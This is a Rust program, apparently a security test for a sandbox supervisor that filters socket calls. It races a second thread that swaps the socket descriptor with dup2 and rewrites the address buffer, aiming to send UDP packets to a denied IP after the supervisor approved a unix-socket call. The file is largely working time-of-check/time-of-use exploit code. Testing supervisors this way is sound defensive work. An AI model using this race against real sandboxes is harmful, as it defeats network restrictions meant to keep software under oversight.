//! Attack: swap the descriptor and the address under a trapped socket call. A supervisor that
//! looked at the socket's family in the caller's file table and then let the kernel run the call
//! (CONTINUE) for a unix socket would have the kernel look again, after another thread put a UDP
//! socket under that descriptor number and a denied IP address in that memory.
//!
//! `attack_swap MODE UNIX_PATH DENIED_IP:PORT N`. Thread A makes N calls of MODE on descriptor
//! FD: `sendto` (one byte, with the address), `sendmsg` (the same, through a `msghdr`) or
//! `connect` (then one untrapped `send(2)` on each of the two real sockets: the UDP one reaches
//! the denied listener only if it got connected there, the unix one reaches UNIX_PATH's receiver
//! when it got connected). Thread B meanwhile flips FD between a unix datagram socket and a UDP
//! socket with `dup2`, and the one address buffer both calls use between the unix address of
//! UNIX_PATH and the denied IP address, out of step with each other so that every combination
//! occurs. Sends never wait (MSG_DONTWAIT). Prints
//! `ok=O eperm=E other=X errnos=ERRNO:COUNT,... last=ok|ERRNO` (results of the N calls; the
//! errnos of the others, by number; then the result of one plain `sendto` of the UDP socket to
//! the denied address, with no race, after the flipper stopped).

use std::net::SocketAddrV4;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

/// sizeof(struct sockaddr_un): the address length every call passes, whichever address is in
/// the buffer (a longer length than sockaddr_in is fine for UDP).
const ADDR_LEN: usize = 110;
const WORDS: usize = 14; // 112 bytes

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [mode, path, denied, n] = args.as_slice() else {
        eprintln!("usage: attack_swap sendto|sendmsg|connect UNIX_PATH DENIED_IP:PORT N");
        std::process::exit(2);
    };
    let denied: SocketAddrV4 = denied.parse().expect("DENIED_IP:PORT");
    let n: usize = n.parse().expect("N");
    let unix_addr = words(&unix_bytes(path));
    let ip_addr = words(&inet_bytes(denied));

    // SAFETY (all libc calls below): integers and pointers to live buffers only.
    let unix_fd = unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_DGRAM, 0) };
    let udp_fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0) };
    let fd = unsafe { libc::dup(unix_fd) };
    assert!(unix_fd >= 0 && udp_fd >= 0 && fd >= 0, "sockets");

    let buf: Arc<[AtomicU64; WORDS]> =
        Arc::new(std::array::from_fn(|i| AtomicU64::new(unix_addr[i])));
    let stop = Arc::new(AtomicBool::new(false));
    let flipper = {
        let (buf, stop) = (buf.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut i: u64 = 0;
            while !stop.load(Ordering::Relaxed) {
                let from = if i % 2 == 0 { udp_fd } else { unix_fd };
                unsafe { libc::dup2(from, fd) };
                let words = if (i / 3) % 2 == 0 {
                    &ip_addr
                } else {
                    &unix_addr
                };
                for (w, v) in buf.iter().zip(words) {
                    w.store(*v, Ordering::Relaxed);
                }
                i += 1;
            }
        })
    };

    let addr = buf.as_ptr() as *const libc::sockaddr;
    let mut byte = [b'x'];
    let (mut ok, mut eperm, mut other) = (0u64, 0u64, 0u64);
    let mut errors = std::collections::BTreeMap::<i32, u64>::new();
    for _ in 0..n {
        let ret = match mode.as_str() {
            "sendto" => unsafe {
                libc::sendto(
                    fd,
                    byte.as_ptr() as *const libc::c_void,
                    1,
                    libc::MSG_DONTWAIT,
                    addr,
                    ADDR_LEN as libc::socklen_t,
                ) as i64
            },
            "sendmsg" => {
                let mut iov = libc::iovec {
                    iov_base: byte.as_mut_ptr() as *mut libc::c_void,
                    iov_len: 1,
                };
                let mut hdr: libc::msghdr = unsafe { std::mem::zeroed() };
                hdr.msg_name = addr as *mut libc::c_void;
                hdr.msg_namelen = ADDR_LEN as libc::socklen_t;
                hdr.msg_iov = &mut iov;
                hdr.msg_iovlen = 1;
                unsafe { libc::sendmsg(fd, &hdr, libc::MSG_DONTWAIT) as i64 }
            }
            "connect" => {
                let r = unsafe { libc::connect(fd, addr, ADDR_LEN as libc::socklen_t) } as i64;
                let errno = std::io::Error::last_os_error();
                for s in [udp_fd, unix_fd] {
                    // send(2): no address, not trapped; reaches only where `s` is connected.
                    unsafe {
                        libc::send(
                            s,
                            byte.as_ptr() as *const libc::c_void,
                            1,
                            libc::MSG_DONTWAIT,
                        )
                    };
                }
                // The connect's errno, not the sends'.
                unsafe { *libc::__errno_location() = errno.raw_os_error().unwrap_or(0) };
                r
            }
            _ => {
                eprintln!("unknown mode {mode}");
                std::process::exit(2);
            }
        };
        match ret {
            r if r >= 0 => ok += 1,
            _ => match std::io::Error::last_os_error().raw_os_error().unwrap_or(0) {
                libc::EPERM => eperm += 1,
                e => {
                    other += 1;
                    *errors.entry(e).or_default() += 1;
                }
            },
        }
    }
    stop.store(true, Ordering::Relaxed);
    flipper.join().expect("flipper");
    // One plain send, no race: natively it shows that the listener hears this program.
    let ip = inet_bytes(denied);
    let last = match unsafe {
        libc::sendto(
            udp_fd,
            byte.as_ptr() as *const libc::c_void,
            1,
            0,
            ip.as_ptr() as *const libc::sockaddr,
            16,
        )
    } {
        r if r >= 0 => "ok".to_string(),
        _ => std::io::Error::last_os_error()
            .raw_os_error()
            .unwrap_or(0)
            .to_string(),
    };
    let errors: Vec<String> = errors.iter().map(|(e, n)| format!("{e}:{n}")).collect();
    println!(
        "ok={ok} eperm={eperm} other={other} errnos={} last={last}",
        errors.join(",")
    );
}

fn unix_bytes(path: &str) -> [u8; WORDS * 8] {
    let mut b = [0u8; WORDS * 8];
    b[..2].copy_from_slice(&(libc::AF_UNIX as u16).to_ne_bytes());
    assert!(path.len() < 107, "unix path too long");
    b[2..2 + path.len()].copy_from_slice(path.as_bytes());
    b
}

fn inet_bytes(a: SocketAddrV4) -> [u8; WORDS * 8] {
    let mut b = [0u8; WORDS * 8];
    b[..2].copy_from_slice(&(libc::AF_INET as u16).to_ne_bytes());
    b[2..4].copy_from_slice(&a.port().to_be_bytes());
    b[4..8].copy_from_slice(&a.ip().octets());
    b
}

fn words(b: &[u8; WORDS * 8]) -> [u64; WORDS] {
    std::array::from_fn(|i| u64::from_ne_bytes(b[i * 8..i * 8 + 8].try_into().unwrap()))
}
